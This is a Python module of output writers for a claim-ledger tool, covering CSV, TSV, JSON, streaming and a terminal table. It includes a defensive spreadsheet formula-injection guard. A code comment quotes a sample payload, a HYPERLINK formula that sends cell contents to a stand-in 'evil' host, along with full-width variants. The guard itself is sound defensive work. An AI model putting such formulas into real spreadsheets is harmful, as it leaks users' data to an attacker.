"""Writers turn ledgers into formats. A writer never parses or classifies.

Every writer streams: `begin()`, then `document(ledger)` once per document as it is produced,
then `end(summary)`. A document read in parts (`pipeline.extract_stream`) comes as several
ledgers of the same `doc`, the last one `final`; a writer that cannot take that (`parts` False:
the workbook, the report) is given whole documents. CSV and TSV use the `excel` dialect (tab-delimited for TSV); list-valued
cells are joined with `;` (`citations` = `2;3;4`, `markers` = `[2-4];[7]`).

Two tables can be written: the claim ledger (`LEDGER`, one row a sentence) and the reference
table (`REFERENCES`, one row a reference-list entry, for `claimtrace references`). Each carries
its row schema (`ledger.RECORD_FIELDS`, `ledger.REFERENCE_FIELDS`), from which every format's
columns, cells and types derive: a writer never lists fields itself.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import sys
import tempfile
import unicodedata
from dataclasses import dataclass, replace
from functools import cached_property
from importlib import import_module
from typing import IO, Any, Callable

from ..defaults import Format
from ..errors import UsageError
from ..kinds import Kind
from ..fields import SHEET, Field, Schema
from ..ledger import RECORD_FIELDS, REFERENCE_FIELDS, DocumentLedger, Record, Reference, Summary
from ..text import printable, without_surrogates


# `Format` lives in `defaults` (the command line reads it without importing the writers).


@dataclass(frozen=True)
class Table:
    """Which rows of a ledger a writer writes, and their schema (`fields.py`): the flat rows
    (CSV), the dicts (JSON), the Parquet schema and the workbook's columns all derive from it.
    The schema's `context` fields (a reference's `doc`) are taken from the document."""

    name: str  # "ledger" (one row a sentence) or "references" (one row an entry)
    schema: Schema
    rows: Callable[[DocumentLedger, bool], list]

    @property
    def is_ledger(self) -> bool:
        return self.name == "ledger"

    @cached_property
    def columns(self) -> tuple[str, ...]:
        """The CSV/TSV header."""
        return self.schema.columns()

    def flat(self, ledger: DocumentLedger, row: Any) -> dict[str, Any]:
        """`row` as one CSV row."""
        if not self.schema.context:
            return self.schema.flat(row)
        return {**{f.name: f.type.flat(getattr(ledger, f.name)) for f in self.schema.context}, **self.schema.flat(row)}

    def as_dict(self, ledger: DocumentLedger, row: Any) -> dict[str, Any]:
        """`row` as one JSON object."""
        if not self.schema.context:
            return self.schema.as_dict(row)
        return {**{f.name: f.type.json(getattr(ledger, f.name)) for f in self.schema.context}, **self.schema.as_dict(row)}

    def document(self, ledger: DocumentLedger, include_all: bool) -> dict[str, Any]:
        """One document in JSON output."""
        if self.is_ledger:
            return ledger.to_dict(include_all, self.schema)
        return {
            "doc": ledger.doc,
            "references": [self.schema.as_dict(ref) for ref in ledger.references],
            "integrity": ledger.integrity.to_dict() if ledger.integrity else None,
        }

    def arrow(self, pa: Any) -> Any:
        """The Parquet schema."""
        return pa.schema(self.schema.arrow_fields(pa))

    @cached_property
    def sheet_fields(self) -> tuple[Field, ...]:
        """The workbook's columns."""
        return self.schema.in_view(SHEET)


LEDGER = Table("ledger", RECORD_FIELDS, lambda ledger, include_all: ledger.rows(include_all))
REFERENCES = Table("references", REFERENCE_FIELDS, lambda ledger, include_all: list(ledger.references))
# Flat columns of CSV/TSV output, in order.
COLUMNS = LEDGER.columns
REFERENCE_COLUMNS = REFERENCES.columns


@dataclass(frozen=True)
class WriteOptions:
    """How rows are written, whatever the format."""

    include_all: bool = False  # every record, not only claims, cited and flagged ones
    raw_cells: bool = False  # CSV/TSV: cells as they are, without the formula guard
    bom: bool = False  # CSV/TSV: a UTF-8 byte-order mark first, so Excel reads non-ASCII text right
    wide: bool = False  # table: every column and the whole text, however wide the terminal


class SafeText:
    """A text stream that never fails on a lone surrogate (`text.without_surrogates`): a write
    the stream cannot encode is written again with U+FFFD in their place, and counted. Costs
    nothing until it happens (a text stream encodes a write whole before it writes any of it)."""

    def __init__(self, stream: IO[str]):
        self.stream = stream
        self.replaced = 0

    def write(self, text: str) -> int:
        try:
            return self.stream.write(text)
        except UnicodeEncodeError:
            text, count = without_surrogates(text)
            self.replaced += count
            return self.stream.write(text)

    def __getattr__(self, name: str) -> Any:  # flush, isatty, fileno, encoding: the stream's
        return getattr(self.stream, name)


def scrubbed(value: Any) -> tuple[Any, int]:
    """`value` (a row: dicts, lists, strings) with lone surrogates replaced, and how many."""
    if isinstance(value, str):
        return without_surrogates(value)
    if isinstance(value, dict):
        pairs = [(k, scrubbed(v)) for k, v in value.items()]
        return {k: v for k, (v, _) in pairs}, sum(n for _, (_, n) in pairs)
    if isinstance(value, (list, tuple)):
        items = [scrubbed(v) for v in value]
        return [v for v, _ in items], sum(n for _, n in items)
    return value, 0


class Writer:
    """Base writer: subclasses override the three hooks. `binary` writers get a byte stream.

    A lone surrogate in a ledger (not a character; see `text.without_surrogates`) is written as
    U+FFFD by every writer; `replaced` says how many were."""

    binary = False
    parts = True  # takes a document in parts (see the module's docstring)
    # The format's name when it can show the claim ledger only (the terminal table, the report).
    ledger_only: str | None = None

    @classmethod
    def check(cls, table: Table = LEDGER) -> None:
        """Raise `UsageError` when this format cannot write `table` here (a view made for the
        claim ledger, a missing extra). `make_writer` calls it before anything is written."""
        if cls.ledger_only and not table.is_ledger:
            others = ", ".join(f.value for f, row in WRITERS.items() if not row.ledger_only)
            raise UsageError(f"the {cls.ledger_only} format shows the claim ledger only; choose from: {others}")

    def __init__(self, stream: IO, table: Table = LEDGER, options: WriteOptions = WriteOptions()):
        self.stream: Any = stream if self.binary else SafeText(stream)
        self._replaced = 0  # by a binary writer itself
        self.table = table
        self.options = options
        self.include_all = options.include_all

    @property
    def replaced(self) -> int:
        """How many lone surrogates were written as U+FFFD."""
        return self._replaced + getattr(self.stream, "replaced", 0)

    def begin(self) -> None:
        pass

    def document(self, ledger: DocumentLedger) -> None:
        raise NotImplementedError

    def end(self, summary: Summary) -> None:
        pass


# A cell starting with one of these is run as a formula by spreadsheets (CSV injection, OWASP):
# `=HYPERLINK("http://evil/?"&A2, "See source [1]")` in a sentence would leak the sheet. Their
# full-width and small forms too (`＝HYPERLINK(…)`, `＠SUM(1)`, `﹦5+5`, `＋cmd|…`): spreadsheets
# fold some of them to ASCII on import. Every character whose compatibility form is one of them.
_FORMULA_SIGNS = "=+-@"
_FORMULA_START = frozenset({"\t", "\r", *_FORMULA_SIGNS, *(
    c for c in map(chr, [*range(0x2070, 0x20A0), *range(0xFE50, 0xFE70), *range(0xFF00, 0xFF60)])
    if unicodedata.normalize("NFKC", c) in _FORMULA_SIGNS and unicodedata.normalize("NFKC", c)
)})
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """A cell that no spreadsheet runs as a formula: OWASP's advice, a leading `'` before a
    text cell that starts with `=`, `+`, `-`, `@` (or a full-width or small form of one), a tab
    or a carriage return, also after leading spaces (` =1+1`, which spreadsheets trim). Plain
    numbers (`-0.5`) stay numbers. Every text cell, `doc` and `id` included."""
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    if first.isspace() and first not in "\t\r":
        first = value.lstrip()[:1]
    if first in _FORMULA_START and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class DelimitedWriter(Writer):
    """CSV (`excel` dialect) or TSV (`excel-tab`), one row a record, header first.

    Cells are made safe for spreadsheets (`safe_cell`) unless `raw_cells` is set.
    """

    def __init__(self, stream, table=LEDGER, options=WriteOptions(), dialect="excel"):
        super().__init__(stream, table, options)
        self.writer = csv.DictWriter(self.stream, fieldnames=table.columns, dialect=dialect)
        self.raw_cells = options.raw_cells

    def begin(self):
        if self.options.bom:
            self.stream.write("\ufeff")
        self.writer.writeheader()

    def document(self, ledger):
        for row in self.table.rows(ledger, self.include_all):
            flat = self.table.flat(ledger, row)
            self.writer.writerow(flat if self.raw_cells else {k: safe_cell(v) for k, v in flat.items()})


class JsonLinesWriter(Writer):
    """One JSON object a record, one record a line."""

    def document(self, ledger):
        for row in self.table.rows(ledger, self.include_all):
            self.stream.write(json.dumps(self.table.as_dict(ledger, row), ensure_ascii=False) + "\n")


class JsonWriter(Writer):
    """`{"documents": [...], "summary": {...}}`, each document written as soon as it is done.

    A document read in parts gives the same bytes as read whole: its rows are kept, already
    written out, in a spooled temporary file (memory up to `SPOOL` bytes, then disk) until its
    last part brings the counts that come before them.
    """

    SPOOL = 8 << 20
    # Stands for a document's rows while the rest of it is rendered (control characters are
    # always escaped in JSON, so no document text can look like it).
    _ROWS = "\x00rows\x00"

    def begin(self):
        self.count = 0
        self.spool: Any = None
        self.stream.write('{"documents": [')

    def document(self, ledger):
        if not self.table.is_ledger:  # a reference table's rows all come with a document's last part
            if not ledger.final:
                return
            self._whole(self.table.document(ledger, self.include_all))
            return
        if ledger.part == 0 and ledger.final:
            self._whole(self.table.document(ledger, self.include_all))
            return
        if ledger.part == 0:
            self.spool = tempfile.SpooledTemporaryFile(self.SPOOL, mode="w+", encoding="utf-8")
            self.rows_spooled = 0
            self.document_summary = Summary()
        for row in ledger.rows(self.include_all):
            # a row as `json.dumps(document, indent=2)` writes it: two levels in
            text = json.dumps(self.table.as_dict(ledger, row), ensure_ascii=False, indent=2).replace("\n", "\n    ")
            self.spool.write(("," if self.rows_spooled else "") + "\n    " + text)
            self.rows_spooled += 1
        self.document_summary = self.document_summary + ledger.summary
        if ledger.final:
            self._spooled(ledger)

    def _whole(self, document: dict[str, Any]) -> None:
        self.stream.write(("," if self.count else "") + "\n")
        self.count += 1
        self.stream.write(json.dumps(document, ensure_ascii=False, indent=2))

    def _spooled(self, ledger: DocumentLedger) -> None:
        """The document read in parts, written as its whole would be: its rows from the spool."""
        document = {**self.table.document(replace(ledger, records=()), self.include_all),
                    "summary": self.document_summary.to_dict()}
        document["records"] = self._ROWS if self.rows_spooled else []
        head, _, tail = json.dumps(document, ensure_ascii=False, indent=2).partition(json.dumps(self._ROWS))
        self.stream.write(("," if self.count else "") + "\n" + head)
        self.count += 1
        if self.rows_spooled:
            self.stream.write("[")
            self.spool.seek(0)
            shutil.copyfileobj(self.spool, self.stream)
            self.stream.write("\n  ]")
        self.stream.write(tail)
        self.spool.close()
        self.spool = None

    def end(self, summary):
        self.stream.write(("\n" if self.count else "") + '], "summary": ')
        self.stream.write(json.dumps(summary.to_dict()) + "}\n")


class TableWriter(Writer):
    """Rich tables for people reading a terminal; not meant for machines.

    A document's rows go out in tables of `CHUNK` rows with fixed column widths, so that a long
    document streams (and `| head` stops it early) instead of being rendered whole first.
    Control characters in document names and text are shown escaped.
    """

    ledger_only = "table"
    CHUNK = 50
    # (name, style, width): fixed, so that the chunks of one document line up. By default one
    # line a record, the text cut with an ellipsis to fit the terminal (80 columns in a pipe);
    # `--wide` adds the section, `why`, sources and flags and wraps every cell.
    COLUMNS = (("#", "dim", 4), ("kind", "cyan", 11), ("claim", None, 5), ("score", None, 5),
               ("cites", "magenta", 7), ("text", None, None))
    WIDE = (("#", "dim", 5), ("section", "dim", 14), ("kind", "cyan", 11), ("claim", None, 5),
            ("score", None, 5), ("cites", "magenta", 6), ("text", None, None), ("why", "dim", 22),
            ("sources", "magenta", 20), ("flags", "red", 8))

    def begin(self):
        from rich.console import Console

        class _Console(Console):
            def on_broken_pipe(self) -> None:
                raise BrokenPipeError  # the caller decides how a closed pipe ends the run

        self.console = _Console(file=self.stream)
        if self.options.wide:  # every column: as wide as the terminal, and never under 160
            self.console = _Console(file=self.stream, width=max(160, self.console.width))

    def document(self, ledger):
        from rich.markup import escape
        from rich.table import Table

        rows = ledger.rows(self.include_all)
        wide = self.options.wide
        if ledger.part == 0:
            self.titled = False
        if not rows and not ledger.final:
            return  # a part without rows: the document's title waits for its first rows
        if not rows and self.titled:
            return
        for first in range(0, max(len(rows), 1), self.CHUNK):
            top = first == 0 and not self.titled  # a document in parts: its title once
            self.titled = True
            table = Table(title=escape(printable(ledger.doc)) if top else None,
                          expand=True, show_header=top, padding=(0, 1) if wide else (0, 0))
            for name, style, width in self.WIDE if wide else self.COLUMNS:
                table.add_column(name, style=style, overflow="fold" if wide else "ellipsis", width=width,
                                 min_width=width, no_wrap=not wide, ratio=None if width else 1)
            for r in rows[first : first + self.CHUNK]:
                cells = self._cells(r, escape)
                if wide:
                    number, kind, claim, score, cites, text = cells
                    cells = (number, escape(printable(r.section or "")), kind, claim, score, cites, text,
                             escape(printable(r.why)), escape(printable(" | ".join(r.sources))), ", ".join(r.flags))
                table.add_row(*cells)
            self.console.print(table)

    @staticmethod
    def _cells(r: Record, escape: Callable[[str], str]) -> tuple[str, ...]:
        claim = "[green]yes[/]" if r.is_claim else ("" if r.kind is Kind.HEADING else "no")
        cites = ",".join(map(str, r.citations)) or ("[red]none[/]" if r.is_claim else "")
        # Escaped: the text holds `[1]`-style markers that rich would read as markup.
        text = escape(printable(r.text))
        return (r.id.rsplit("#", 1)[-1], r.kind.value, claim, "–" if r.score is None else f"{r.score:.2f}", cites,
                f"[bold]{text}[/]" if r.kind is Kind.HEADING else text)


@dataclass(frozen=True)
class WriterRow:
    """One output format's writer: its class (`module.name`, imported on first use: the
    workbook, the report and Parquet need libraries of their own) and its keyword options."""

    module: str  # "" for this module, else a module of this package (".xlsx")
    name: str
    options: tuple[tuple[str, str], ...] = ()
    ledger_only: bool = False  # a view of the claim ledger only (the terminal table, the report)


# Every output format's writer. Dispatch (`writer_class`, `make_writer`) and the "choose from"
# of a format that cannot write a table derive from it. Where a new writer goes: a `Writer`
# subclass, a `Format` member and a row here.
WRITERS: dict[Format, WriterRow] = {
    Format.csv: WriterRow("", "DelimitedWriter"),
    Format.tsv: WriterRow("", "DelimitedWriter", (("dialect", "excel-tab"),)),
    Format.xlsx: WriterRow(".xlsx", "WorkbookWriter"),
    Format.parquet: WriterRow(".parquet", "ParquetWriter"),
    Format.html: WriterRow(".report", "ReportWriter", ledger_only=True),
    Format.jsonl: WriterRow("", "JsonLinesWriter"),
    Format.json: WriterRow("", "JsonWriter"),
    Format.table: WriterRow("", "TableWriter", ledger_only=True),
}


def writer_class(fmt: Format) -> type[Writer]:
    """The writer of `fmt` (so a caller can tell a binary format before opening the output)."""
    row = WRITERS[fmt]
    module = import_module(row.module, __package__) if row.module else sys.modules[__name__]
    return getattr(module, row.name)


def make_writer(fmt: Format, stream: IO, table: Table = LEDGER, options: WriteOptions = WriteOptions()) -> Writer:
    """The writer for `fmt` writing `table` (the claim ledger by default) to `stream`."""
    cls = writer_class(fmt)
    cls.check(table)
    return cls(stream, table, options, **dict(WRITERS[fmt].options))


def format_for_path(path: str) -> Format | None:
    """The format a file name's extension implies (`out.tsv` → tsv), or None."""
    suffix = path.rsplit(".", 1)[-1].lower() if "." in path else ""
    return {f.value: f for f in Format if f is not Format.table}.get(suffix)
